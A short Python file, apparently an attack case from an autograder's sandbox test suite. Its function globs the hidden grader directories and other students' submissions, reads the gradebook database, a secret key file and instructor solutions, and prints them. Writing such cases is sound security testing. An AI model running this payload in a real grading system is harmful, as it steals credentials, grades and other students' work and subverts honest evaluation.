"""The gradebook, the private keys, and other students' work."""
# layers: yes
import glob, os, sqlite3
def attack(name, args, keywords):
    found = [glob.glob(f"@ROOT@/{part}/**", recursive=True) for part in (".autograder", "submitted")]
    for path in ("gradebook.db", ".autograder/secret", "source/mlp/mlp.ipynb", "tests/test_attacks.py"):
        try:
            found.append(open(os.path.join("@ROOT@", path), "rb").read())
        except OSError:
            continue
    print(found)
    return found
